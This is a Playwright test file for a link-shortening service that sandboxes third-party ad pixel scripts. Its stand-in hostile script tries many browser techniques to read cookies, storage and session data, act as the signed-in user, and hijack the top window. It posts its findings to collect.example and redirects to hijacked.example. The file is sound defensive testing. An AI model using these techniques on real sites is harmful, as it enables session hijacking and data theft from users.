import type { Browser, BrowserContext, Page, Route } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { beginSession } from '../../src/domain/access/session.ts';
import type { PixelType } from '../../src/domain/pixel.ts';
import { verifyHost } from '../../src/domain/short-domain/admin.ts';
import type { Caller } from '../../src/testing/caller.ts';
import { NOON, startTestServer, type TestServer } from '../../src/testing/server.ts';
import { BROWSER_TIMEOUT, chromiumPath, launchBrowser } from '../support/browser.ts';
import { addUser } from '../support/console.ts';
import { BROWSER } from '../support/visit.ts';

const SECRET = 'for the host alone';
const SHARED = 's.example';
const OWN = 'own.example';
const HOSTS = [SHARED, OWN];

/** Attempts of a hostile script. Each returns the thing that it reached; an error is a refusal. */
const ATTEMPTS = {
  'reads cookies': 'document.cookie',
  'sets a cookie': "(document.cookie = 'set=1', document.cookie.includes('set=1') || refuse())",
  'reads cookies by the newer way': 'cookieStore.getAll().then(JSON.stringify)',
  'reads the local storage': 'localStorage.secret',
  'reads the storage of the tab': 'sessionStorage.secret',
  'reads who is signed in':
    "fetch(ORIGIN + '/auth/session', { credentials: 'include' }).then((one) => (one.ok ? one.text() : refuse()))",
  'acts as who is signed in': `fetch(ORIGIN + '/graphql', {
    method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ query: 'mutation { createSpace(input: { name: "by a pixel" }) { __typename } }' }),
  }).then((one) => (one.ok ? one.text() : refuse()))`,
  'signs somebody out': `fetch(ORIGIN + '/auth/sign-out', {
    method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}',
  }).then(({ ok }) => (ok ? 'out' : refuse()))`,
  'opens a database': "answerOf(indexedDB.open('secret')).then(() => 'opened')",
  'lists caches': 'caches.keys().then(JSON.stringify)',
  'opens private files': "navigator.storage.getDirectory().then(() => 'opened')",
  'hears a channel':
    "new Promise((heard) => { new BroadcastChannel('secret').onmessage = ({ data }) => heard(data) })",
  'steals a lock': "navigator.locks.request('secret', { steal: true }, () => 'stolen')",
  'sees locks':
    "navigator.locks.query().then(({ held }) => held.some(({ name }) => name === 'secret') || refuse())",
  'registers a service worker': 'navigator.serviceWorker.register(ASSET)',
  'starts a worker of the host': "answerOf(new Worker(ORIGIN + ASSET)).then(() => 'started', refuse)",
  'starts a shared worker of the host':
    "answerOf(new SharedWorker(ORIGIN + ASSET)).then(() => 'started', refuse)",
  'reaches the page that opened it': "(top.opener.postMessage('from a pixel', '*'), 'sent')",
  'reads the address': 'location.href.includes("?") ? location.href : top.location.href',
  'knows the address by its base': 'document.baseURI.includes("?") ? document.baseURI : refuse()',
  'knows the address as the referrer': 'document.referrer.includes("?") ? document.referrer : refuse()',
  'reads the page': 'top.document.body.innerHTML.length',
  'reads the target of the page': "top.document.getElementById('on').href",
  'reads the element of its frame': '(frameElement ?? (top === self ? self : refuse())).nodeName ?? "top"',
  'uses an empty page': 'emptyFrame().contentWindow.sessionStorage.secret',
  'uses a page from a blob': 'readByBlob()',
  'opens a window': "(open('/docs') ?? refuse(), 'opened')",
  'takes a window by its name': "(open('', 'console') ?? refuse(), 'taken')",
  'reads the history of the page': 'top.history.state ?? top.history.length',
  'calls the host': "fetch(ORIGIN + '/api/v1/links').then(({ status }) => status)",
};

/** The stand-in for a network's script. It reports to a host of its own, as such a script would. */
const scriptFor = (origin: string, asset: string): string => `(async () => {
  const ORIGIN = '${origin}', ASSET = '${asset}'
  const refuse = () => { throw new Error('refused') }
  const answerOf = (one) => new Promise((resolve, reject) => {
    one.onsuccess = resolve
    one.onmessage = resolve
    one.onerror = reject
  })
  const emptyFrame = () => document.body.appendChild(document.createElement('iframe'))
  const readByBlob = () => {
    const text = '<script>opener.postMessage(sessionStorage.secret, "*")</' + 'script>'
    const opened = open(URL.createObjectURL(new Blob([text], { type: 'text/html' }))) ?? refuse()
    return new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data)))
  }
  const attempts = {${Object.entries(ATTEMPTS)
    .map(([name, code]) => `${JSON.stringify(name)}: async () => ${code}`)
    .join(',\n')}}
  const outcomes = {}
  for (const [name, work] of Object.entries(attempts)) {
    const tooLate = new Promise((_, reject) => setTimeout(reject, 5000))
    outcomes[name] = await Promise.race([work(), tooLate]).then(String, () => 'refused')
  }
  const body = JSON.stringify(outcomes)
  await fetch('https://collect.example/', { method: 'POST', mode: 'no-cors', body })
  // What would end the page comes last.
  if (top !== self) {
    try { top.location.href = 'https://hijacked.example/' } catch {}
    try { top.location.replace('javascript:alert(1)') } catch {}
    try { history.back() } catch {}
  }
  fetch('https://collect.example/end', { mode: 'no-cors' })
})()`;

/** For each network, an id, its script, and what a stand-in for that script reports once it runs. */
const NETWORKS: Readonly<Record<PixelType, { value: string; script: string; code: string; sent: string }>> = {
  ADROLL: {
    value: 'ADV:PIX',
    script: 's.adroll.com/j/ADV/roundtrip.js',
    code: 'send(adroll_adv_id + adroll_pix_id + adroll.length)',
    sent: 's.adroll.com ADVPIX1',
  },
  BING: {
    value: '12',
    script: 'bat.bing.com/bat.js',
    code: 'window.UET = function ({ ti }) { this.push = (what) => send(ti + what) }',
    sent: 'bat.bing.com 12pageLoad',
  },
  FACEBOOK: {
    value: '34',
    script: 'connect.facebook.net/en_US/fbevents.js',
    code: 'send(fbq.queue.map((one) => [...one]).join())',
    sent: 'connect.facebook.net init,34,track,PageView',
  },
  GOOGLE_ADS: {
    value: 'AW-1',
    script: 'www.googletagmanager.com/gtag/js?id=AW-1',
    code: "send(dataLayer.find((one) => one[1] === 'AW-1').length)",
    sent: 'www.googletagmanager.com 2',
  },
  GOOGLE_ANALYTICS: {
    value: 'G-ABC',
    script: 'www.googletagmanager.com/gtag/js?id=G-ABC',
    code: "send(dataLayer.find((one) => one[1] === 'G-ABC')[0])",
    sent: 'www.googletagmanager.com config',
  },
  GOOGLE_TAG_MANAGER: {
    value: 'GTM-ABC',
    script: 'www.googletagmanager.com/gtm.js?id=GTM-ABC',
    code: 'send(dataLayer.find((one) => one.event).event)',
    sent: 'www.googletagmanager.com gtm.js',
  },
  LINKEDIN: {
    value: '56',
    script: 'snap.licdn.com/li.lms-analytics/insight.min.js',
    code: 'send(_linkedin_data_partner_ids)',
    sent: 'snap.licdn.com 56',
  },
  PINTEREST: {
    value: '78',
    script: 's.pinimg.com/ct/core.js',
    code: 'send(pintrk.queue.join())',
    sent: 's.pinimg.com load,78,page',
  },
  QUORA: {
    value: 'ab',
    script: 'a.quora.com/qevents.js',
    code: 'send(qp.queue.map((one) => [...one]).join())',
    sent: 'a.quora.com init,ab,track,ViewContent',
  },
  X: {
    value: 'cd',
    script: 'static.ads-twitter.com/uwt.js',
    code: 'send(twq.queue.map((one) => [...one]).join())',
    sent: 'static.ads-twitter.com config,cd',
  },
};

const standInFor = (url: string): string => `(() => {
  const { host } = new URL(document.currentScript.src)
  const send = (what) => { new Image().src = 'https://' + host + '/sent?what=' + encodeURIComponent(what) }
  ${Object.values(NETWORKS).find(({ script }) => url === `https://${script}`)?.code}
})()`;

describe.runIf(chromiumPath)('scripts of pixels, in a browser', () => {
  let server: TestServer;
  let caller: Caller;
  let browser: Browser;
  let context: BrowserContext;
  let asset: string;
  const originOf = (host: string): string => `http://${host}:${new URL(server.origin).port}`;
  beforeAll(async () => {
    // Over http, since the browser sends no secure cookie without https.
    server = await startTestServer({ verifiesDomains: true, baseUrl: `http://${SHARED}` });
    caller = await server.caller();
    await caller.link({ alias: 'locked', password: 'for visitors' });
    // Without https, browsers offer some of what scripts try only to hosts that they are told to trust.
    const trusted = HOSTS.map(originOf).join();
    browser = await launchBrowser([
      `--host-resolver-rules=${HOSTS.map((host) => `MAP ${host} 127.0.0.1`).join()}`,
      `--unsafely-treat-insecure-origin-as-secure=${trusted}`,
      // Playwright does not reach the first requests of a frame with a process of its own.
      '--disable-features=IsolateSandboxedIframes',
    ]);
    context = await browser.newContext({ userAgent: BROWSER });
    context.setDefaultTimeout(BROWSER_TIMEOUT);
    const docs = await (await fetch(`${server.origin}/docs`)).text();
    asset = /src="([^"]+)"/.exec(docs)?.[1] ?? '';
  });
  afterEach(async () => {
    await Promise.all(context.pages().map((page) => page.close()));
    await context.unrouteAll({ behavior: 'ignoreErrors' });
    await context.clearCookies();
  });
  afterAll(async () => {
    await browser.close();
    await server.stop();
  });

  /** A visitor's tab; the test answers for all other hosts. */
  async function newTab(elsewhere: (route: Route, url: URL) => Promise<void>): Promise<Page> {
    await context.route(
      ({ protocol }) => protocol === 'https:',
      (route) => elsewhere(route, new URL(route.request().url())),
    );
    return context.newPage();
  }

  /** Opens a link's page at a host with the script, and returns the script's results and the visitor's destination. */
  async function attack(host: string, fields: Record<string, number>) {
    const { alias } = await caller.link({
      url: 'https://target.example/?own=1',
      pixel_ids: await caller.pixel(),
      ...fields,
    });
    const origin = originOf(host);
    let outcomes: Record<string, string> = {};
    let end = () => {};
    const ended = new Promise<void>((resolve) => {
      end = resolve;
    });
    const asked: string[] = [];
    const page = await newTab(async (route, url) => {
      asked.push(url.host);
      if (url.host === 'www.googletagmanager.com')
        return route.fulfill({ contentType: 'text/javascript', body: scriptFor(origin, asset) });
      if (url.pathname === '/end') end();
      else if (url.host === 'collect.example') outcomes = JSON.parse(route.request().postData() ?? '');
      // The page stays until its successor answers.
      else if (url.host === 'target.example') await ended;
      await route.fulfill({ contentType: 'text/html', body: 'Elsewhere' });
    });
    await context.addCookies([{ name: 'secret', value: SECRET, url: origin }]);
    // A page of the host opens the link.
    await page.goto(`${origin}/nowhere`);
    await page.evaluate(`
      localStorage.secret = sessionStorage.secret = ${JSON.stringify(SECRET)};
      const channel = new BroadcastChannel('secret');
      setInterval(() => channel.postMessage(${JSON.stringify(SECRET)}), 20);
      void navigator.locks.request('secret', () => new Promise(() => {})).catch(() => {});
    `);
    const opening = page.waitForEvent('popup');
    await page.evaluate("void open('/before')");
    const opened = await opening;
    await opened.waitForURL('**/before');
    await opened.evaluate(`location.href = '/${alias}?token=private'`);
    await opened.waitForURL('https://target.example/**');
    return { outcomes, arrived: opened.url(), asked };
  }

  test('reach nothing of a host with pages for people, and no session there, and cannot lead the visitor elsewhere', async () => {
    const { user } = await addUser(server, caller.key);
    const { token } = await beginSession(server.database, user, 'a test', server.clock.now);
    const cookie = { name: 'linkspace', value: token, url: originOf(SHARED), httpOnly: true };
    await context.addCookies([{ ...cookie, sameSite: 'Lax' }]);
    const { outcomes, arrived, asked } = await attack(SHARED, {});
    expect(outcomes).toEqual(Object.fromEntries(Object.keys(ATTEMPTS).map((name) => [name, 'refused'])));
    expect(arrived).toBe('https://target.example/?own=1&token=private');
    expect(asked).not.toContain('hijacked.example');
    const own = { Cookie: `linkspace=${token}` };
    expect((await fetch(`${server.origin}/auth/session`, { headers: own })).status).toBe(200);
    await expect.poll(() => caller.data('{ spaces { totalCount } }')).toEqual({ spaces: { totalCount: 0 } });
  });

  test('fire once and do not lead on again, though their frame makes Back lead to its page', async () => {
    const { alias } = await caller.link({ url: 'https://target.example/', pixel_ids: await caller.pixel() });
    let fired = 0;
    let wasLeft = false;
    const page: Page = await newTab(async (route, { host }) => {
      if (host === 'target.example') {
        // A busy machine leads on before the script runs: the page stays until its successor answers.
        const hasMoved = () => page.frames().some((frame) => frame.url().endsWith('#two'));
        if (!wasLeft) await expect.poll(hasMoved).toBe(true);
        wasLeft = true;
        return route.fulfill({ contentType: 'text/html', body: 'Elsewhere' });
      }
      fired++;
      const body = "location.hash = 'one'; setTimeout(() => { location.hash = 'two' }, 50)";
      await route.fulfill({ contentType: 'text/javascript', body });
    });
    await page.goto(`${originOf(SHARED)}/nowhere`);
    await page.evaluate(`void setTimeout(() => { location.href = '/${alias}' })`);
    await page.waitForURL('https://target.example/');
    await page.goBack();
    // Longer than the page would wait before it leads on.
    await expect
      .poll(() => page.evaluate('performance.now()'), { timeout: BROWSER_TIMEOUT })
      .toBeGreaterThan(1500);
    expect([new URL(page.url()).pathname, fired]).toEqual([`/${alias}`, 1]);
    await page.click('#on');
    await page.waitForURL('https://target.example/');
  });

  test('run as part of the page on an account’s own domain, where there is no script for a service worker', async () => {
    const domain = await caller.domain(OWN);
    await verifyHost(server.database, OWN, NOON);
    const { outcomes } = await attack(OWN, { domain_id: domain });
    expect(outcomes).toMatchObject({
      'reads cookies': `secret=${SECRET}`,
      'sets a cookie': 'true',
      'reads the local storage': SECRET,
      'reads the storage of the tab': SECRET,
      'hears a channel': SECRET,
      'steals a lock': 'stolen',
      'reaches the page that opened it': 'sent',
      'reads the address': expect.stringContaining('token=private'),
      'reads the target of the page': expect.stringContaining('https://target.example/'),
      'uses an empty page': SECRET,
      'reads who is signed in': 'refused',
      'registers a service worker': 'refused',
      'starts a worker of the host': 'refused',
    });
  });

  test.each(['/console/links', '/docs', '/graphql', '/locked', '/locked+'])(
    'would keep no hold on a window that they opened on %s',
    async (path) => {
      const page = await newTab((route) => route.abort());
      await page.goto(`${originOf(SHARED)}/nowhere`);
      await page.evaluate(`void (opened = open('${path}'))`);
      await expect.poll(() => page.evaluate('opened.closed')).toBe(true);
    },
  );

  test('of every kind load and send from their frame', async () => {
    const networks = Object.entries(NETWORKS);
    const ids = await Promise.all(networks.map(([type, { value }]) => caller.pixel(type, type, value)));
    const { alias } = await caller.link({ url: 'https://target.example/', pixel_ids: ids.join() });
    const sent: string[] = [];
    const complaints: string[] = [];
    const page = await newTab(async (route, { host, href, pathname, searchParams }) => {
      const inFrame = route.request().frame().parentFrame() !== null;
      if (pathname === '/sent') sent.push(`${host} ${searchParams.get('what')}${inFrame ? '' : ' outside'}`);
      // The page stays until its successor answers.
      if (host !== 'target.example')
        await route.fulfill({ contentType: 'text/javascript', body: standInFor(href) });
    });
    page.on('pageerror', ({ message }) => complaints.push(message));
    // On a busy machine the page leads on before it has loaded.
    await page.goto(`${originOf(SHARED)}/${alias}`, { waitUntil: 'commit' });
    await expect.poll(() => sent.toSorted()).toEqual(networks.map(([, network]) => network.sent).toSorted());
    expect(complaints).toEqual([]);
  });
});
